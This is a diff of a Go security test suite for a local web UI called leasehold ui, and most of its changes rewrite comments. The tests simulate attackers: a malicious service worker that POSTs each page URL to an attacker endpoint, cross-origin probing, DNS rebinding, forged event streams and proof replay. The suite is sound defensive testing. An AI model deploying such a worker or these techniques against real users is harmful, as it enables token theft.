@@ -18,28 +18,29 @@ import (
 	"github.com/leasehold-go/leasehold/proof/interop/browser"
 )
 
-// attacker is a server that another user of the machine runs. It records everything that it
-// receives.
+// attacker is a web server that another user of the machine runs. It records all requests
+// that it receives.
 type attacker struct {
 	t       testing.TB
 	servers []*http.Server
 	port    string
-	pages   map[string]string // answers by path; other paths get the attacker's own page
-	proofs  http.Handler      // handler that answers /who with proofs; nil if there is none
+	pages   map[string]string // answers by path; the attacker's own page answers every other path
+	proofs  http.Handler      // handler for /who, the path at which leasehold ui proves that it knows the secret; nil if there is none
 
 	mu      sync.Mutex
 	heard   []string      // requests, with their headers and bodies
-	arrived chan struct{} // channel that receives a value after each request, unless the channel is full
+	arrived chan struct{} // receives a value after each request, unless it already contains one
 }
 
-// attack starts an attacker at a port of both loopback addresses; "0" means any port.
+// attack starts an attacker's server at the given port of both loopback addresses. The port
+// "0" means any free port.
 func attack(t testing.TB, port string, a *attacker) *attacker {
 	t.Helper()
 	a.t, a.port, a.arrived = t, port, make(chan struct{}, 1)
 	for _, host := range []string{"127.0.0.1", "::1"} {
 		l, err := net.Listen("tcp", net.JoinHostPort(host, a.port))
 		if err != nil && host == "::1" {
-			continue // ::1 is missing, or its port is taken; in both cases no client sends requests there
+			continue // ::1 does not exist or its port is taken, so the attacker listens only on 127.0.0.1
 		}
 		if err != nil {
 			t.Fatal(err)
@@ -53,7 +54,7 @@ func attack(t testing.TB, port string, a *attacker) *attacker {
 	return a
 }
 
-// leave closes the port.
+// leave closes the attacker's servers and so frees their port.
 func (a *attacker) leave() {
 	for _, s := range a.servers {
 		_ = s.Close()
@@ -95,8 +96,8 @@ func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-// wait waits until a request has arrived since the last call of wait, or since the start of
-// the attacker.
+// wait waits for a request to the attacker. A request that arrived before the call counts
+// too, unless an earlier call of wait has consumed it.
 func (a *attacker) wait() {
 	a.t.Helper()
 	select {
@@ -106,14 +107,14 @@ func (a *attacker) wait() {
 	}
 }
 
-// loot returns everything that the attacker has received.
+// loot returns the text of all requests that the attacker has received.
 func (a *attacker) loot() string {
 	a.mu.Lock()
 	defer a.mu.Unlock()
 	return strings.Join(a.heard, "\n\n")
 }
 
-// tokenOf returns the token in a URL of leasehold ui.
+// tokenOf returns the secret token in a URL that leasehold ui printed.
 func tokenOf(t testing.TB, at string) string {
 	t.Helper()
 	_, token, ok := strings.Cut(at, "#token=")
@@ -129,7 +130,8 @@ func portOf(t testing.TB, at string) string {
 	return lab.Must(url.Parse(at))(t).Port()
 }
 
-// status returns leasehold ui's answer to a client that sends it a token.
+// status sends a request with the token to the leasehold ui at the given URL. It returns
+// the HTTP status of the answer.
 func status(t testing.TB, at, token string) int {
 	t.Helper()
 	r := lab.Must(http.NewRequestWithContext(t.Context(), http.MethodPost, "http://127.0.0.1:"+portOf(t, at)+"/show", strings.NewReader(`{}`)))(t)
@@ -141,7 +143,7 @@ func status(t testing.TB, at, token string) int {
 	return answer.StatusCode
 }
 
-// get returns the answer of a server.
+// get sends a GET request, and returns the body of the answer.
 func get(t testing.TB, at string) string {
 	t.Helper()
 	r := lab.Must(http.NewRequestWithContext(t.Context(), http.MethodGet, at, nil))(t)
@@ -150,8 +152,8 @@ func get(t testing.TB, at string) string {
 	return string(lab.Must(io.ReadAll(answer.Body))(t))
 }
 
-// opensWith tries each part of loot as a token of leasehold ui. It returns the first token
-// that opens the page, or "" if none does.
+// opensWith tries every part of loot that looks like a token of leasehold ui. It returns
+// the first part that leasehold ui accepts, or "" if it accepts none.
 func opensWith(t testing.TB, at, loot string) string {
 	t.Helper()
 	tried := map[string]bool{}
@@ -164,8 +166,9 @@ func opensWith(t testing.TB, at, loot string) string {
 	return ""
 }
 
-// planted returns the script of a service worker. The worker answers for the origin where
-// it was installed, and reports every request to its owner.
+// planted returns the script of a malicious service worker. In the browser, this worker
+// answers requests to the origin that installed it. It reports each request to the server
+// owner.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -176,8 +179,9 @@ func planted(owner string) string {
 	});`
 }
 
-// A browser asks the service workers of an origin before the server. A page of another user
-// may have left a service worker at an address with this port.
+// A browser passes requests to the service worker of an origin before it asks the server. A
+// page of another user may have installed such a worker for an address and port that
+// leasehold ui uses later.
 func TestServiceWorkerOfEarlierServerDoesNotSeeURL(t *testing.T) {
 	s := newScene(t, "native")
 	owner := attack(t, "0", &attacker{})
@@ -199,13 +203,13 @@ func TestServiceWorkerOfEarlierServerDoesNotSeeURL(t *testing.T) {
 	if strings.Contains(owner.loot()+before.loot(), tokenOf(t, at)) {
 		t.Error("the attacker has the token")
 	}
-	// The service worker is still installed, and would answer requests to this address.
+	// The service worker is still installed, and still answers requests to this address.
 	tab.Open("http://127.0.0.1:" + before.port + "/")
 	tab.Wait(`document.body.innerText.includes("the attacker answers")`)
 }
 
-// tries returns a page that tries to reach the page of leasehold ui in every way that a
-// browser has.
+// tries returns the attacker's page. Its script tries all ways in which a browser can
+// access a page of another origin, which is target.
 func tries(target string) string {
 	return `<!doctype html><script>
 	const target = ` + js(target) + `, tried = [];
@@ -255,9 +259,9 @@ func TestPageOnAnotherPortCannotReadOrBreakLocks(t *testing.T) {
 		if strings.Contains(got, "open") || strings.Contains(got, "job") || strings.Contains(got, "<html") {
 			t.Errorf("from %s it got %q", at, got)
 		}
-		// The attacker's page cannot read the leasehold ui page that it opens. When the
-		// browser then goes from leasehold ui to the attacker's page, the referrer, the
-		// history and the cookies contain no secret.
+		// The attacker's page opens leasehold ui, but cannot read its page. When the browser then
+		// follows a link back to the attacker, the referrer, the history and the cookies must
+		// contain no secret.
 		tab.Run(`globalThis.opened = open(` + js(p.origin()+"/") + `)`)
 		tab.Wait(`opened.closed || (() => { try { return opened.location.href === "x" } catch { return true } })()`)
 		tab.Run(`document.getElementById("link").click()`)
@@ -292,8 +296,8 @@ func TestPageOnAnotherPortCannotReadOrBreakLocks(t *testing.T) {
 	}
 }
 
-// TestDNSRebindingIsRefused plays DNS rebinding: the page comes from an attacker's
-// server, and then its name and port lead to leasehold ui.
+// TestDNSRebindingIsRefused simulates DNS rebinding. The browser loads a page from an
+// attacker's server. After that, the same name and port lead to leasehold ui.
 func TestDNSRebindingIsRefused(t *testing.T) {
 	s := newScene(t, "native")
 	evil := attack(t, "0", &attacker{})
@@ -314,7 +318,7 @@ func TestDNSRebindingIsRefused(t *testing.T) {
 	}
 }
 
-// lies is a forged event stream of leasehold ui.
+// lies is a forged event stream, as an attacker would send it in place of leasehold ui.
 const lies = `event: hello
 data: {"page":"x","table":"a table of lies","location":"here","layout":"native","allowBreak":true,"started":1}
 
@@ -323,9 +327,9 @@ data: {"rows":[{"i":1,"kind":"lock","key":"a lie","state":"released"}]}
 
 `
 
-// leasehold ui is killed while its page is open, and an attacker takes its port. Nothing
-// that the attacker receives is useful after leasehold ui restarts with the same secret.
-// The page does not show the attacker's text.
+// The test kills leasehold ui while its page is open, and an attacker takes the port. The
+// page must not show the attacker's text. The attacker must receive nothing that still
+// works after leasehold ui restarts with the same secret.
 func TestOpenPageSendsNoSecretToServerThatTakesPort(t *testing.T) {
 	s := newScene(t, "native")
 	addr := freePort(t)
@@ -340,8 +344,8 @@ func TestOpenPageSendsNoSecretToServerThatTakesPort(t *testing.T) {
 		.observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });`)
 	_, port, _ := net.SplitHostPort(addr)
 
-	// The attacker has asked for a proof earlier, as anyone may, and now repeats that
-	// proof.
+	// Every client may request such a proof from leasehold ui. The attacker has done so
+	// earlier, and now replays the proof.
 	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))
 
 	p.server.kill()
@@ -382,7 +386,8 @@ func TestOpenPageSendsNoSecretToServerThatTakesPort(t *testing.T) {
 	}
 }
 
-// An attacker on the page's port relays a valid proof of a server on another port.
+// The attacker takes the port of the page. It forwards requests for a proof to another
+// leasehold ui with the same secret, and returns the valid proof of that server.
 func TestPageRejectsProofRelayedFromAnotherPort(t *testing.T) {
 	s := newScene(t, "native")
 	p := s.ui("--token-file", "token")
